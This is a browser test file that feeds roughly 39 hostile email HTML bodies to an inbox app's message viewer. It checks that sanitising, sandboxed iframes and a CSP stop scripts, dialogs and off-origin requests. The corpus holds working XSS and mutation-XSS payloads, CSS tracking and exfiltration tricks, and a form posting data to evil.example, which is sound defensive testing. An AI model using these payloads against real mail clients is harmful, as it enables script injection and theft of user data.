/**
 * Hostile email HTML shown by the inbox's email display (sanitised, sandboxed iframe, frame CSP):
 * no script runs, no dialog opens, and no request leaves the app's origin, even after clicking
 * the links and buttons in the messages and after asking for remote images.
 *
 * The hostile threads are played back from the browser in the shapes of the conversations API
 * (src/features/inbox/routes/conversations.ts), with raw HTML bodies, to test the client's own defences;
 * everything else is the real app and server.
 */
import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Browser, BrowserContext, Page, Route } from 'playwright-core';
import { buildWebApp, hasChromium, launchChromium, screenshot, signIn, startWebServer, type WebTestServer } from './support.js';

const EVIL = 'evil.example';

/** Each entry is one message body. Every payload that ran would call alert() or post to the app. */
const CORPUS: Array<{ name: string; html: string }> = [
  { name: 'script tag', html: `<p>Hello</p><script>alert('script');top.postMessage('xss:script','*')</script>` },
  { name: 'script in head', html: `<html><head><script src="https://${EVIL}/head.js"></script></head><body>Hi</body></html>` },
  { name: 'img onerror', html: `<img src="x" onerror="alert('onerror');top.postMessage('xss:onerror','*')">` },
  { name: 'svg onload', html: `<svg onload="alert('svg')"><script>alert('svg-script')</script><image href="https://${EVIL}/svgimage.png"/></svg>` },
  { name: 'body onload and background', html: `<body onload="alert('body')" background="https://${EVIL}/body-bg.png"><p>body</p></body>` },
  { name: 'details ontoggle', html: `<details open ontoggle="alert('toggle')"><summary>s</summary>x</details>` },
  { name: 'javascript link', html: `<a id="jslink" href="javascript:alert('jslink');top.postMessage('xss:jslink','*')">Click me</a>` },
  { name: 'obfuscated javascript link', html: `<a id="jslink2" href=" jav&#x09;ascript&colon;alert('jslink2')">Click me too</a>` },
  { name: 'data: html link', html: `<a id="datalink" href="data:text/html,<script>alert('datalink')</script>">Data link</a>` },
  { name: 'iframe javascript', html: `<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe><iframe src="https://${EVIL}/frame"></iframe>` },
  { name: 'object and embed', html: `<object data="https://${EVIL}/o.swf"></object><embed src="https://${EVIL}/e.swf"><applet code="x"></applet>` },
  { name: 'form', html: `<form id="f" action="https://${EVIL}/steal" method="post"><input name="q" value="secret"><button id="submitbtn" type="submit">Send</button><input type="image" src="https://${EVIL}/input.png"></form>` },
  { name: 'form GET with formaction', html: `<form action="https://${EVIL}/get"><button id="formaction" formaction="https://${EVIL}/formaction">Go</button></form>` },
  { name: 'meta refresh', html: `<html><head><meta http-equiv="refresh" content="0;url=https://${EVIL}/refresh"></head><body>Refresh</body></html>` },
  { name: 'meta refresh in body', html: `<p>x</p><meta http-equiv="refresh" content="0; url=javascript:alert('refresh-js')">` },
  { name: 'base href', html: `<base href="https://${EVIL}/"><img src="relative.png"><a id="baselink" href="relative-link">rel</a>` },
  { name: 'link stylesheet and prefetch', html: `<link rel="stylesheet" href="https://${EVIL}/style.css"><link rel="prefetch" href="https://${EVIL}/prefetch"><link rel="dns-prefetch" href="//${EVIL}"><link rel="preload" as="image" href="https://${EVIL}/preload.png">` },
  { name: 'style @import', html: `<style>@import url("https://${EVIL}/import.css"); @import "https://${EVIL}/import2.css"; p { color: red }</style><p>styled</p>` },
  { name: 'style url() backgrounds', html: `<style>body { background: url(https://${EVIL}/bg.png) } .a { list-style-image: url('https://${EVIL}/list.png') } .b { cursor: url(https://${EVIL}/cur.cur), auto }</style><ul class="a"><li class="b">x</li></ul>` },
  { name: 'style image-set', html: `<style>.x { background-image: image-set("https://${EVIL}/set.png" 1x) } .y { background-image: -webkit-image-set("https://${EVIL}/wset.png" 1x) }</style><div class="x y">set</div>` },
  { name: 'style @font-face', html: `<style>@font-face { font-family: evil; src: url(https://${EVIL}/font.woff) } p { font-family: evil }</style><p>font</p>` },
  { name: 'style escapes', html: `<style>.e { background: u\\72l(https://${EVIL}/escaped.png) }</style><div class="e" style="background: u\\72l(https://${EVIL}/escaped-inline.png)">esc</div>` },
  { name: 'inline style url', html: `<div style="background:url('https://${EVIL}/inline.png')">inline</div><div style="background-image: url(//${EVIL}/inline-pr.png)">pr</div>` },
  { name: 'custom property smuggling', html: `<div style="--x: url(https://${EVIL}/var.png); background: var(--x)">var</div><style>:root{--y:u\\72l(https://${EVIL}/var2.png)} p{background:var(--y)}</style><p>v</p>` },
  { name: 'expression and behaviours', html: `<div style="width: expression(alert('expr')); behavior: url(https://${EVIL}/b.htc); -moz-binding: url(https://${EVIL}/x.xml#x)">old IE</div>` },
  { name: 'style breakout', html: `<style>p::after { content: "</style><img src=https://${EVIL}/breakout.png onerror=alert('breakout')>" }</style><p>after</p>` },
  { name: 'tracking pixel', html: `<p>Newsletter</p><img src="https://${EVIL}/pixel.gif?u=1" width="1" height="1" alt=""><img src="//${EVIL}/protocol-relative.png" alt="logo">` },
  { name: 'srcset and picture', html: `<picture><source srcset="https://${EVIL}/source.png"><img srcset="https://${EVIL}/srcset.png 1x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>` },
  { name: 'table background', html: `<table background="https://${EVIL}/table.png"><tr><td background="https://${EVIL}/td.png">cell</td></tr></table>` },
  { name: 'media', html: `<video poster="https://${EVIL}/poster.png" autoplay><source src="https://${EVIL}/v.mp4"></video><audio src="https://${EVIL}/a.mp3" autoplay></audio><track src="https://${EVIL}/t.vtt">` },
  { name: 'mathml mutation', html: `<math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')">` },
  { name: 'noscript mutation', html: `<noscript><p title="</noscript><img src=x onerror=alert('noscript')>"></noscript>` },
  { name: 'xmp and template', html: `<xmp><img src=x onerror=alert('xmp')></xmp><template><img src=x onerror=alert('template')></template>` },
  { name: 'svg foreignObject', html: `<svg><foreignObject><iframe src="javascript:alert('fo')"></iframe></foreignObject><a xlink:href="javascript:alert('svga')"><text>t</text></a></svg>` },
  { name: 'conditional comments', html: `<!--[if gte mso 9]><img src="https://${EVIL}/mso.png"><![endif]--><p>mso</p>` },
  { name: 'ping and target', html: `<a id="pinglink" href="https://${EVIL}/ping-target" ping="https://${EVIL}/pinged">ping</a> <a id="toplink" href="https://${EVIL}/top" target="_top">top</a>` },
  { name: 'vbscript and data img', html: `<a href="vbscript:msgbox(1)">vb</a><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">` },
  { name: 'dialog and portal', html: `<dialog open><form method="dialog"><button>x</button></form></dialog><portal src="https://${EVIL}/portal"></portal>` },
  { name: 'entity-encoded handlers', html: `<img src=x &#111;nerror="alert('ent')"><div onmouseover="alert('hover')" id="hover">hover me</div>` },
];

const now = new Date('2026-03-02T09:30:00Z').getTime();
const person = (name: string, address: string) => ({ name, address });

/** A conversation list item in the API's shape (src/features/inbox/routes/conversations.ts). */
const item = (inboxId: string, o: { id: string; subject: string; assignee: { id: string; name: string } | null; contact: string; snippet: string; messageCount: number }) => ({
  id: o.id, inboxId, connectionId: 'conn-1', subject: o.subject, status: 'open', snoozedUntil: null, assignee: o.assignee, contact: { id: `ct-${o.id}`, name: o.contact },
  participants: [], messageCount: o.messageCount, snippet: o.snippet, lastMessageAt: new Date(now).toISOString(), lastInboundAt: new Date(now).toISOString(), createdAt: new Date(now - 86_400_000).toISOString(),
});

const message = (o: { id: string; from: { name: string; address: string }; at: number; text: string; hasHtml: boolean; attachments?: unknown[] }) => ({
  id: o.id, direction: 'inbound', kind: 'normal', bounce: null, messageId: `<${o.id}@mail.example>`, subject: '', from: o.from, to: [person('Support', 'support@acme.example')], cc: [],
  sentAt: new Date(o.at).toISOString(), receivedAt: new Date(o.at).toISOString(), text: o.text, hasHtml: o.hasHtml, attachments: o.attachments ?? [], outboxId: null,
});

/** Message bodies played back by GET /conversations/{id}/messages/{messageId}/html, raw (the client must hold its own). */
const HTML: Record<string, string> = {};

function thread(inboxId: string) {
  const messages = CORPUS.map((c, i) => {
    HTML[`m-${i}`] = `<p><b>${c.name}</b></p>${c.html}`;
    return message({ id: `m-${i}`, from: person(`Mallory ${i}`, `mallory${i}@${EVIL}`), at: now + i * 60_000, text: c.name, hasHtml: true });
  });
  return {
    ...item(inboxId, { id: 'conv-hostile', subject: 'Totally normal invoice', assignee: null, contact: 'Mallory', snippet: 'Please open', messageCount: messages.length }),
    inboxName: 'Support', access: 'act', messages, outgoing: [], activity: [], viewers: [],
  };
}

const niceThread = (inboxId: string) => {
  HTML['n-1'] = `<div style="font-family: Georgia, serif"><p>Hello,</p><p>Order <b>#1042</b> arrived today but the box was crushed and the <span style="color:#b42318">glass vial is cracked</span>.</p><table style="border-collapse:collapse" border="1" cellpadding="6"><tr><th>Item</th><th>Qty</th></tr><tr><td>Glass vial, 50 ml</td><td>2</td></tr></table><p><img src="https://${EVIL}/photo.jpg" alt="[photo of the box]" width="200"></p><p>Could you send a replacement?<br>Marie</p></div>`;
  return {
    ...item(inboxId, { id: 'conv-nice', subject: 'Order #1042 arrived damaged', assignee: { id: 'u', name: 'Ada Lovelace' }, contact: 'Marie Curie', snippet: 'The box was crushed…', messageCount: 1 }),
    inboxName: 'Support', access: 'act',
    messages: [
      message({ id: 'n-1', from: person('Marie Curie', 'marie@radium.example'), at: now - 3600_000, text: 'Order #1042 arrived today but the box was crushed', hasHtml: true, attachments: [{ filename: 'box.jpg', contentType: 'image/jpeg', size: 184_000, sha256: 'a'.repeat(64) }] }),
    ],
    outgoing: [],
    activity: [{ id: 'act-1', kind: 'comment', actor: { id: 'u', name: 'Ada Lovelace' }, data: { body: '@Grace can you check stock for the 50 ml vials?', mentions: [] }, createdAt: new Date(now - 1800_000).toISOString() }],
    viewers: [],
  };
};

let dist: string;
let server: WebTestServer;
let browser: Browser;
let inboxId: string;

beforeAll(async () => {
  dist = await buildWebApp();
  server = await startWebServer(dist);
  inboxId = (await server.api('POST', '/api/v1/inboxes', { name: 'Support' })).body.id;
  if (hasChromium) browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (dist) fs.rmSync(dist, { recursive: true, force: true });
});

async function playBackConversations(page: Page) {
  const summaries = [niceThread(inboxId), thread(inboxId)].map(({ inboxName, access, messages, outgoing, activity, viewers, ...summary }) => summary);
  await page.route(/\/api\/v1\/inboxes\/[^/]+\/conversations(\?|$)/, (route: Route) =>
    route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ conversations: summaries, nextCursor: null }) }),
  );
  await page.route(/\/api\/v1\/conversations\/conv-hostile$/, (route: Route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(thread(inboxId)) }));
  await page.route(/\/api\/v1\/conversations\/conv-nice$/, (route: Route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify(niceThread(inboxId)) }));
  await page.route(/\/api\/v1\/conversations\/[^/]+\/messages\/[^/]+\/html(\?|$)/, (route: Route) => {
    const messageId = decodeURIComponent(new URL(route.request().url()).pathname.split('/')[6]!);
    return route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ messageId, html: HTML[messageId] ?? null, blockedRemoteImages: 0 }) });
  });
  await page.route(/\/api\/v1\/conversations\/[^/]+\/presence$/, (route: Route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ viewers: [] }) }));
}

describe.skipIf(!hasChromium)('email display against hostile HTML', () => {
  let context: BrowserContext;
  let page: Page;
  const requests: string[] = [];
  const dialogs: string[] = [];
  const popups: string[] = [];

  beforeAll(async () => {
    context = await browser.newContext({ viewport: { width: 1280, height: 860 } });
    // Any script that ran anywhere would post here (frames are cross-origin, so they can only post).
    await context.addInitScript(() => {
      (window as any).__xss = [];
      window.addEventListener('message', (e) => (window as any).__xss.push(String(e.data)));
    });
    context.on('request', (r) => requests.push(r.url()));
    context.on('page', (p) => popups.push(p.url()));
    page = await context.newPage();
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await signIn(page, server.origin, server.admin.email, server.admin.password);
    await playBackConversations(page);
  });
  afterAll(async () => {
    await context?.close();
  });

  const leaving = () => requests.filter((u) => !u.startsWith(server.origin + '/') && !u.startsWith('data:') && !u.startsWith('about:'));

  test('the three-pane inbox shows the list and a well-formed message', async () => {
    await page.goto(`${server.origin}/inbox/open?inbox=${inboxId}`);
    await page.getByRole('link', { name: /Order #1042 arrived damaged/ }).waitFor();
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'Order #1042 arrived damaged' }).waitFor();
    const frame = page.frameLocator('iframe[title="Message from Marie Curie"]');
    await frame.getByText('glass vial is cracked').waitFor();
    await page.getByText('1 remote image is hidden').waitFor();
    await screenshot(page, 'inbox-thread', { fullPage: false });
    await page.keyboard.press('j');
    await page.getByRole('heading', { name: 'Totally normal invoice' }).waitFor();
    await page.keyboard.press('k');
    await page.getByRole('heading', { name: 'Order #1042 arrived damaged' }).waitFor();
  });

  test('every hostile message renders in a frame with sandbox="" and the frame CSP, with nothing dangerous left', async () => {
    await page.goto(`${server.origin}/inbox/open?inbox=${inboxId}&c=conv-hostile`);
    await page.getByRole('heading', { name: 'Totally normal invoice' }).waitFor();
    await expect.poll(() => page.locator('iframe').count(), { timeout: 20_000 }).toBe(CORPUS.length); // 39 frames: slow on a busy machine
    const frames = await page.$$eval('iframe', (els) => els.map((e) => ({ sandbox: e.getAttribute('sandbox'), srcdoc: e.getAttribute('srcdoc') ?? '', src: e.getAttribute('src') })));
    for (const [i, f] of frames.entries()) {
      const name = CORPUS[i]!.name;
      expect(f.sandbox, name).toBe('');
      expect(f.src, name).toBeNull();
      expect(f.srcdoc, name).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: cid:; style-src 'unsafe-inline'`);
      const body = f.srcdoc.split('</head>')[1] ?? '';
      const styles = (f.srcdoc.match(/<style>[\s\S]*?<\/style>/g) ?? []).join('\n');
      expect(body, name).not.toMatch(/<script|<iframe|<object|<embed|<form|<input|<button|<meta|<link|<base|<svg|<math|<video|<audio|<source|<template|<noscript/i);
      expect(body, name).not.toMatch(/\son[a-z]+\s*=/i);
      expect(body, name).not.toMatch(/javascript:|vbscript:|data:text/i);
      expect(body, name).not.toMatch(/\b(src|srcset|background|poster|ping|action|formaction)\s*=\s*"[^"]*evil/i);
      expect(body, name).not.toMatch(/style="[^"]*(url|image-set|expression|var)\(/i);
      expect(styles, name).not.toMatch(/@import|@font-face|evil\.example|expression|behavior|binding|var\(|image-set/i);
      expect(styles, name).not.toMatch(/<\/?(img|script)/i);
    }
    // Links to the web stay (people follow them), but open outside the app, with no referrer.
    const ping = frames.find((f) => f.srcdoc.includes('ping-target'))!;
    expect(ping.srcdoc).toMatch(/<a id="pinglink"|<a href="https:\/\/evil\.example\/ping-target"/);
    expect(ping.srcdoc).toContain('rel="noopener noreferrer nofollow"');
  });

  test('clicking links, buttons and forms inside the messages runs nothing and sends nothing', async () => {
    const frames = page.frames().filter((f) => f !== page.mainFrame());
    expect(frames.length).toBe(CORPUS.length);
    let clicked = 0;
    for (const frame of frames) {
      for (const el of await frame.$$('a, button, summary, [id=hover]')) {
        await el.click({ timeout: 2000, force: true }).then(
          () => clicked++,
          () => undefined,
        );
      }
    }
    expect(clicked).toBeGreaterThan(5);
    await page.waitForTimeout(500);
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as any).__xss)).toEqual([]);
    expect(leaving()).toEqual([]);
    expect(popups.filter((u) => u && u !== 'about:blank')).toEqual([]);
    // The app is still here and still this page.
    expect(new URL(page.url()).origin).toBe(server.origin);
    await page.getByRole('heading', { name: 'Totally normal invoice' }).waitFor();
  });

  test('no script ran inside any frame', async () => {
    for (const frame of page.frames().filter((f) => f !== page.mainFrame())) {
      // Evaluated by the test harness (not by the page). The harness's init script put an empty
      // message log in every frame too: nothing may have been posted to it.
      const flags = await frame.evaluate(() => ({ xss: (window as any).__xss ?? null, scripts: document.scripts.length, handlers: document.querySelectorAll('[onerror],[onload],[onclick],[onmouseover],[ontoggle]').length, forms: document.forms.length }));
      expect(flags).toEqual({ xss: [], scripts: 0, handlers: 0, forms: 0 });
    }
  });

  test('remote images load only after asking, and then only through the app origin', async () => {
    const before = requests.length;
    const show = page.getByRole('button', { name: 'Show images' });
    expect(await show.count()).toBeGreaterThan(0);
    await show.first().click();
    await page.waitForTimeout(800);
    const after = requests.slice(before);
    expect(leaving()).toEqual([]);
    const proxied = after.filter((u) => u.includes('/api/v1/image-proxy?url='));
    expect(proxied.length).toBeGreaterThan(0);
    for (const u of proxied) expect(u.startsWith(server.origin + '/api/v1/image-proxy?url=https%3A%2F%2Fevil.example%2F')).toBe(true);
    expect(dialogs).toEqual([]);
    await screenshot(page, 'inbox-hostile-thread', { fullPage: false });
  });

  test('phone width: the thread takes the screen, with a way back to the list', async () => {
    const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
    const p = await phone.newPage();
    phone.on('request', (r) => requests.push(r.url()));
    await signIn(p, server.origin, server.admin.email, server.admin.password);
    await playBackConversations(p);
    await p.goto(`${server.origin}/inbox/open?inbox=${inboxId}`);
    await p.getByRole('link', { name: /Order #1042 arrived damaged/ }).click();
    await p.frameLocator('iframe').first().getByText('glass vial is cracked').waitFor();
    expect(await p.getByRole('link', { name: /Totally normal invoice/ }).isVisible()).toBe(false);
    expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
    await screenshot(p, 'phone-inbox-thread');
    await p.getByRole('button', { name: '← Back to list' }).click();
    await p.getByRole('link', { name: /Totally normal invoice/ }).waitFor();
    await phone.close();
  });

  test('the whole run: no dialog, no message from a frame, no request off the app origin', async () => {
    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => (window as any).__xss)).toEqual([]);
    expect(leaving()).toEqual([]);
    expect(requests.some((u) => u.includes(EVIL) && !u.startsWith(server.origin))).toBe(false);
  });
});
